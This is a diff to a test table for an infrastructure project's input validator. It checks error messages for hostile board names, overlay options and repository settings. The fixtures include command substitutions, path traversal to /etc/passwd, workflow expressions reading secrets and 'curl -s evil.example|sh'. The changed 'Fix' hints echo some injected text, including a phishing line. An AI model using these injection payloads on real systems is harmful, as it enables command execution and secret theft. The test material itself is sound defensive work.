@@ -94,12 +94,12 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'boardName with a command substitution',
     declare: (p) => withBoard(p, { boardName: 'nanopi-m6$(reboot)' }),
-    expected: BOARD + '  - boardName = "nanopi-m6$(reboot)": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "nanopi-m6$(reboot)": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-reboot"',
   },
   {
     title: 'boardName with backticks',
     declare: (p) => withBoard(p, { boardName: 'nanopi`id`' }),
-    expected: BOARD + '  - boardName = "nanopi`id`": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "nanopi`id`": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-id"',
   },
   {
     title: 'boardName with a newline',
@@ -109,12 +109,12 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'boardName with path traversal (it names the asset file)',
     declare: (p) => withBoard(p, { boardName: '../../etc/passwd' }),
-    expected: BOARD + '  - boardName = "../../etc/passwd": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "../../etc/passwd": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "etc-passwd"',
   },
   {
     title: 'boardName with a workflow expression',
     declare: (p) => withBoard(p, { boardName: '${{ github.actor }}' }),
-    expected: BOARD + '  - boardName = "${{ github.actor }}": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "${{ github.actor }}": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "github-actor"',
   },
   {
     title: 'boardName in upper case',
@@ -124,27 +124,27 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'boardName longer than 40 characters',
     declare: (p) => withBoard(p, { boardName: 'nanopi-m6-' + 'x'.repeat(31) }),
-    expected: BOARD + '  - boardName = "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"',
   },
   {
     title: 'empty boardName',
     declare: (p) => withBoard(p, { boardName: '' }),
-    expected: BOARD + '  - boardName = "": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"',
+    expected: BOARD + '  - boardName = "": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "my-board"',
   },
   {
     title: 'displayName with a workflow expression reading a secret',
     declare: (p) => withBoard(p, { displayName: 'NanoPi ${{ secrets.DOCKERHUB_TOKEN }}' }),
-    expected: BOARD + '  - displayName = "NanoPi ${{ secrets.DOCKERHUB_TOKEN }}": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "FriendlyElec NanoPi M6"',
+    expected: BOARD + '  - displayName = "NanoPi ${{ secrets.DOCKERHUB_TOKEN }}": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi {{ secrets.DOCKERHUB_TOKEN }}"',
   },
   {
     title: 'displayName with backticks',
     declare: (p) => withBoard(p, { displayName: 'NanoPi `reboot`' }),
-    expected: BOARD + '  - displayName = "NanoPi `reboot`": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "FriendlyElec NanoPi M6"',
+    expected: BOARD + '  - displayName = "NanoPi `reboot`": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi reboot"',
   },
   {
     title: 'displayName with a newline (release notes injection)',
     declare: (p) => withBoard(p, { displayName: 'NanoPi M6\n## Download the fixed image from evil.example' }),
-    expected: BOARD + '  - displayName = "NanoPi M6\\n## Download the fixed image from evil.example": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "FriendlyElec NanoPi M6"',
+    expected: BOARD + '  - displayName = "NanoPi M6\\n## Download the fixed image from evil.example": must be 1 to 100 printable characters without "$", "`" or "\\". Fix: use a plain name such as "NanoPi M6 ## Download the fixed image from evil.example"',
   },
   {
     title: 'overlayName with a command separator',
@@ -179,17 +179,17 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'overlay option value with a command substitution',
     declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6$(curl -s evil.example|sh)' } }),
-    expected: BOARD + '  - overlayOptions.board = "nanopi-m6$(curl -s evil.example|sh)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
+    expected: BOARD + '  - overlayOptions.board = "nanopi-m6$(curl -s evil.example|sh)": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6curl-sevil.examplesh", or pass free text in overlayTextOptions',
   },
   {
     title: 'overlay option value with a newline smuggling a flag',
     declare: (p) => withBoard(p, { overlayOptions: { board: 'nanopi-m6\n--privileged' } }),
-    expected: BOARD + '  - overlayOptions.board = "nanopi-m6\\n--privileged": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
+    expected: BOARD + '  - overlayOptions.board = "nanopi-m6\\n--privileged": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6--privileged", or pass free text in overlayTextOptions',
   },
   {
     title: 'overlay option value with a workflow expression',
     declare: (p) => withBoard(p, { overlayOptions: { board: '${{ github.event.head_commit.message }}' } }),
-    expected: BOARD + '  - overlayOptions.board = "${{ github.event.head_commit.message }}": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions',
+    expected: BOARD + '  - overlayOptions.board = "${{ github.event.head_commit.message }}": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "github.event.head_commit.message", or pass free text in overlayTextOptions',
   },
   {
     title: 'overlay option value with quotes',
@@ -322,8 +322,8 @@ const OVERLAY_BOARD_ROWS: Row<Project>[] = [
   {
     title: 'several hostile values at once: one error listing each',
     declare: (p) => withBoard(p, { boardName: 'm6;reboot', talosVersion: 'v1.10', overlayOptions: { board: '`id`' } }),
-    expected: BOARD + '  - boardName = "m6;reboot": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "nanopi-m6"\n'
-      + '  - overlayOptions.board = "`id`": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "nanopi-m6", or pass free text in overlayTextOptions\n'
+    expected: BOARD + '  - boardName = "m6;reboot": must be 1 to 40 lowercase letters and digits separated by single "-" (^[a-z0-9]+(?:-[a-z0-9]+)*$). Fix: use a short lowercase name such as "m6-reboot"\n'
+      + '  - overlayOptions.board = "`id`": must not contain whitespace, quotes, shell metacharacters ($ ` ; & | < > ( ) { } [ ] * ? ! # ~ ^ \\) or control characters. Fix: use a plain value such as "id", or pass free text in overlayTextOptions\n'
       + '  - talosVersion = "v1.10": a Talos version must look like "v1.10.6" (or "v1.14.0-rc.1"). Fix: use the exact release tag of siderolabs/talos, with the leading "v"',
   },
   {
@@ -642,7 +642,7 @@ const DOCKER_HUB_REPO_ROWS: Row<TerraformStack>[] = [
   {
     title: 'repository name longer than 255 characters',
     declare: (s) => dockerHubRepo(s, { imageRepository: ImageRepository.dockerHub('user1234', 't'.repeat(256)) }),
-    expected: HUB + '  - imageRepository.name = "tttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttt": a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
+    expected: HUB + '  - imageRepository.name = "' + 't'.repeat(160) + '"… (256 code points): a Docker Hub repository name must be 2 to 255 characters matching ^[a-z0-9]+(?:[._-][a-z0-9]+)*$. Fix: use lowercase letters and digits separated by single ".", "_" or "-", e.g. "talos-sbc-nanopi-m6"',
   },
   {
     title: 'repository name with a command substitution',
@@ -673,7 +673,7 @@ const DOCKER_HUB_REPO_ROWS: Row<TerraformStack>[] = [
   {
     title: 'preventDestroy: false without a reason',
     declare: (s) => dockerHubRepo(s, { preventDestroy: false }),
-    expected: HUB + '  - destroyReason = undefined: preventDestroy: false needs a reason: destroying the repository deletes every image in it. Fix: set destroyReason (e.g. "scratch repository for CI tests"), or keep preventDestroy: true',
+    expected: HUB + '  - destroyReason = (not set): preventDestroy: false needs a reason: destroying the repository deletes every image in it. Fix: set destroyReason (e.g. "scratch repository for CI tests"), or keep preventDestroy: true',
   },
   {
     title: 'preventDestroy: false with a blank reason',
@@ -683,7 +683,7 @@ const DOCKER_HUB_REPO_ROWS: Row<TerraformStack>[] = [
   {
     title: 'conflicting settings: adopting an existing repository without saying whether it is private',
     declare: (s) => dockerHubRepo(s, { importExisting: true }),
-    expected: HUB + '  - private = undefined: adopting an existing repository (importExisting: true) needs private set explicitly: the provider makes the repository public when it is omitted. Fix: set private: true to keep a private repository private, or private: false if it is public',
+    expected: HUB + '  - private = (not set): adopting an existing repository (importExisting: true) needs private set explicitly: the provider makes the repository public when it is omitted. Fix: set private: true to keep a private repository private, or private: false if it is public',
   },
   {
     title: 'conflicting settings: fullDescription and fullDescriptionFile',
@@ -748,7 +748,7 @@ const REPO_SECRETS_ROWS: Row<TerraformStack>[] = [
   {
     title: 'empty variable name',
     declare: (s) => repoSecrets(s, { variables: { '': 'x' } }),
-    expected: SECRETS + '  - variables."" = "": a GitHub Actions variable name must not be empty. Fix: name the variable, e.g. "TALOS_VERSION"',
+    expected: SECRETS + '  - variables[""] = "": a GitHub Actions variable name must not be empty. Fix: name the variable, e.g. "TALOS_VERSION"',
   },
   {
     title: 'secret name GITHUB_TOKEN',
@@ -788,7 +788,7 @@ const REPO_SECRETS_ROWS: Row<TerraformStack>[] = [
   {
     title: 'variable value larger than GitHub\'s 48 KB limit',
     declare: (s) => repoSecrets(s, { variables: { BIG: 'x'.repeat(48 * 1024 + 1) } }),
-    expected: SECRETS + '  - variables.BIG = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…": GitHub limits an Actions variable to 48 KB (got 49153 bytes). '
+    expected: SECRETS + '  - variables.BIG = "' + 'x'.repeat(160) + '"… (49153 code points): GitHub limits an Actions variable to 48 KB (got 49153 bytes). '
       + 'Fix: store large values in a file in the repository instead',
   },
   {
